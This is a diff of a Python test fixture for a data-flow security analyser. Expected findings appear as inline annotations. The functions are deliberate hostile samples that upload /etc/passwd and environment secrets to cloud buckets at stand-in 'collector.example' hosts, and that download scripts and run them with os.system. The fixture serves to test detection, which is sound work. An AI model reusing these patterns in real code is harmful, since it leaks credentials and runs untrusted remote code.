@@ -6,7 +6,6 @@ import boto3
 import dropbox
 import minio
 import requests
-from azure.keyvault.secrets import SecretClient
 from azure.storage.blob import BlobClient, BlobServiceClient
 from azure.storage.queue import QueueClient
 from google.cloud import bigquery, pubsub_v1, secretmanager, storage
@@ -18,35 +17,35 @@ U = "https://collector.example/u"
 
 def s3_file():
     s3 = boto3.client("s3")  #~ capability(NETWORK)
-    s3.upload_file("/etc/passwd", "bucket", "key")  #~ source(FILE) f1, sink(egress.cloud) f1, finding(traced) f1, capability(NETWORK), capability(FILES)
+    s3.upload_file("/etc/passwd", "bucket", "key")  #~ source(FILE) f1, sink(egress.cloud) f1, finding(traced) f1, capability(FILES)
 
 
 def s3_stream():
     s3 = boto3.client("s3")
-    s3.upload_fileobj(open("/etc/passwd", "rb"), "bucket", "key")  #~ source(FILE) f2, sink(egress.cloud) f2, finding(traced) f2, capability(NETWORK)
+    s3.upload_fileobj(open("/etc/passwd", "rb"), "bucket", "key")  #~ source(FILE) f2, sink(egress.cloud) f2, finding(traced) f2
 
 
 def s3_object():
     s3 = boto3.client("s3")
-    s3.put_object(Bucket="bucket", Key="key", Body=os.getenv("T"))  #~ source(ENVIRONMENT) f3, sink(egress.cloud) f3, finding(traced) f3, capability(NETWORK)
+    s3.put_object(Bucket="bucket", Key="key", Body=os.getenv("T"))  #~ source(ENVIRONMENT) f3, sink(egress.cloud) f3, finding(traced) f3
 
 
 def s3_get():
     s3 = boto3.client("s3")
-    answer = s3.get_object(Bucket="bucket", Key="next.sh")  #~ source(NETWORK) f4, capability(NETWORK)
+    answer = s3.get_object(Bucket="bucket", Key="next.sh")  #~ source(NETWORK) f4
     os.system(answer["Body"])  #~ sink(exec.command) f4, finding(traced) f4
 
 
 def s3_download():
     s3 = boto3.client("s3")
-    s3.download_file("bucket", "next.sh", "/tmp/s3-next.sh")  #~ source(NETWORK) f5, capability(NETWORK), capability(FILE_WRITE)
+    s3.download_file("bucket", "next.sh", "/tmp/s3-next.sh")  #~ source(NETWORK) f5, capability(FILE_WRITE)
     os.system("/tmp/s3-next.sh")  #~ sink(exec.command) f5, finding(traced) f5
 
 
 def s3_download_stream():
     s3 = boto3.client("s3")
     target = io.BytesIO()
-    s3.download_fileobj("bucket", "next.sh", target)  #~ source(NETWORK) f6, capability(NETWORK)
+    s3.download_fileobj("bucket", "next.sh", target)  #~ source(NETWORK) f6
     os.system(target.getvalue())  #~ sink(exec.command) f6, finding(traced) f6
 
 
@@ -72,7 +71,7 @@ def session_queue():
 
 def session_resource():
     s3 = boto3.Session().resource("s3")  #~ capability(NETWORK)
-    s3.Object("bucket", "key").put(Body=os.getenv("T"))  #~ source(ENVIRONMENT) f10, sink(egress.cloud) f10, finding(traced) f10, capability(NETWORK)
+    s3.Object("bucket", "key").put(Body=os.getenv("T"))  #~ source(ENVIRONMENT) f10, sink(egress.cloud) f10, finding(traced) f10
 
 
 def session_credentials():
@@ -90,7 +89,7 @@ def session_constants():
 
 def resource_file():
     s3 = boto3.resource("s3")  #~ capability(NETWORK)
-    s3.Bucket("bucket").upload_file("/etc/passwd", "key")  #~ source(FILE) f13, sink(egress.cloud) f13, finding(traced) f13, capability(NETWORK), capability(FILES)
+    s3.Bucket("bucket").upload_file("/etc/passwd", "key")  #~ source(FILE) f13, sink(egress.cloud) f13, finding(traced) f13, capability(FILES)
 
 
 def resource_constant():
@@ -100,7 +99,7 @@ def resource_constant():
 
 def queue_message():
     sqs = boto3.client("sqs")  #~ capability(NETWORK)
-    sqs.send_message(QueueUrl="q", MessageBody=os.getenv("T"))  #~ source(ENVIRONMENT) f15, sink(egress.cloud) f15, finding(traced) f15, capability(NETWORK)
+    sqs.send_message(QueueUrl="q", MessageBody=os.getenv("T"))  #~ source(ENVIRONMENT) f15, sink(egress.cloud) f15, finding(traced) f15
 
 
 def secret_value():
@@ -133,12 +132,12 @@ def old_key_text(key):
 
 def gcs_file():
     blob = storage.Client().bucket("bucket").blob("key")  #~ capability(NETWORK)
-    blob.upload_from_filename("/etc/passwd")  #~ source(FILE) f21, sink(egress.cloud) f21, finding(traced) f21, capability(NETWORK), capability(FILES)
+    blob.upload_from_filename("/etc/passwd")  #~ source(FILE) f21, sink(egress.cloud) f21, finding(traced) f21, capability(FILES)
 
 
 def gcs_text():
     blob = storage.Client().bucket("bucket").blob("key")
-    blob.upload_from_string(os.getenv("T"))  #~ source(ENVIRONMENT) f22, sink(egress.cloud) f22, finding(traced) f22, capability(NETWORK)
+    blob.upload_from_string(os.getenv("T"))  #~ source(ENVIRONMENT) f22, sink(egress.cloud) f22, finding(traced) f22
 
 
 def gcs_download():
@@ -148,7 +147,7 @@ def gcs_download():
 
 def gcs_download_file():
     blob = storage.Client().bucket("bucket").blob("next.sh")
-    blob.download_to_filename("/tmp/gcs-next.sh")  #~ source(NETWORK) f24, capability(NETWORK), capability(FILE_WRITE)
+    blob.download_to_filename("/tmp/gcs-next.sh")  #~ source(NETWORK) f24, capability(FILE_WRITE)
     os.system("/tmp/gcs-next.sh")  #~ sink(exec.command) f24, finding(traced) f24
 
 
@@ -186,7 +185,7 @@ def google_secret_compared():
 def azure_blob():
     service = BlobServiceClient("https://az.collector.example/")  #~ capability(NETWORK), endpoint("https://az.collector.example/")
     blob = service.get_blob_client("container", "key")
-    blob.upload_blob(os.getenv("T"))  #~ source(ENVIRONMENT) f30, sink(egress.cloud) f30, finding(traced) f30, capability(NETWORK)
+    blob.upload_blob(os.getenv("T"))  #~ source(ENVIRONMENT) f30, sink(egress.cloud) f30, finding(traced) f30
 
 
 def azure_block():
@@ -197,12 +196,12 @@ def azure_block():
 def azure_container():
     service = BlobServiceClient("https://az.collector.example/")
     container = service.get_container_client("container")
-    container.upload_blob("key", os.getenv("T"))  #~ source(ENVIRONMENT) f32, sink(egress.cloud) f32, finding(traced) f32, capability(NETWORK)
+    container.upload_blob("key", os.getenv("T"))  #~ source(ENVIRONMENT) f32, sink(egress.cloud) f32, finding(traced) f32
 
 
 def azure_download():
     blob = BlobClient.from_blob_url("https://azblob.collector.example/c/next.sh")
-    os.system(blob.download_blob().readall())  #~ source(NETWORK) fazd, sink(exec.command) fazd, finding(assumed) fazd
+    os.system(blob.download_blob().readall())  #~ source(NETWORK) f33, sink(exec.command) f33, finding(traced) f33
 
 
 def azure_constants():
@@ -219,41 +218,32 @@ def azure_queue(queue: QueueClient):
     queue.send_message("ping")  #~ ok
 
 
-def azure_secret(client: SecretClient):
-    secret = client.get_secret("s")  #~ source(CREDENTIAL) f36, capability(CREDENTIALS)
-    requests.post(U, data=secret.value)  #~ sink(egress.http) f36, finding(traced) f36
-
-
-def azure_secret_compared(client: SecretClient):
-    requests.post(U, data={"none": client.get_secret("s") == ()})  #~ ok
-
-
 def box():
     d = dropbox.Dropbox("token")
-    d.files_upload(os.getenvb(b"T"), "/x")  #~ source(ENVIRONMENT) f38, sink(egress.cloud) f38, finding(traced) f38, capability(NETWORK)
+    d.files_upload(os.getenvb(b"T"), "/x")  #~ source(ENVIRONMENT) f36, sink(egress.cloud) f36, finding(traced) f36, capability(NETWORK)
     d.files_upload(b"ping", "/x")  #~ ok
 
 
 def minio_object():
     m = minio.Minio("minio.collector.example")
-    m.put_object("bucket", "key", io.BytesIO(os.getenvb(b"T")), 10)  #~ source(ENVIRONMENT) f39, sink(egress.cloud) f39, finding(traced) f39, capability(NETWORK)
+    m.put_object("bucket", "key", io.BytesIO(os.getenvb(b"T")), 10)  #~ source(ENVIRONMENT) f37, sink(egress.cloud) f37, finding(traced) f37, capability(NETWORK)
     m.put_object("bucket", "key", io.BytesIO(b"ping"), 4)  #~ ok
 
 
 def minio_file():
     m = minio.Minio("minio.collector.example")
-    m.fput_object("bucket", "key", "/etc/passwd")  #~ source(FILE) f40, sink(egress.cloud) f40, finding(traced) f40, capability(NETWORK), capability(FILES)
+    m.fput_object("bucket", "key", "/etc/passwd")  #~ source(FILE) f38, sink(egress.cloud) f38, finding(traced) f38, capability(NETWORK), capability(FILES)
     fput_object = None  #~ ok
 
 
 def drive_file():
-    media = MediaFileUpload("/etc/passwd")  #~ source(FILE) f41, capability(FILES)
-    build("drive", "v3").files().create(media_body=media)  #~ sink(egress.cloud) f41, finding(traced) f41, capability(NETWORK)
+    media = MediaFileUpload("/etc/passwd")  #~ source(FILE) f39, capability(FILES)
+    build("drive", "v3").files().create(media_body=media)  #~ sink(egress.cloud) f39, finding(traced) f39, capability(NETWORK)
 
 
 def drive_text():
-    media = MediaInMemoryUpload(os.getenvb(b"T"))  #~ source(ENVIRONMENT) f42
-    build("drive", "v3").files().create(media_body=media)  #~ sink(egress.cloud) f42, finding(traced) f42
+    media = MediaInMemoryUpload(os.getenvb(b"T"))  #~ source(ENVIRONMENT) f40
+    build("drive", "v3").files().create(media_body=media)  #~ sink(egress.cloud) f40, finding(traced) f40
 
 
 def drive_constants():
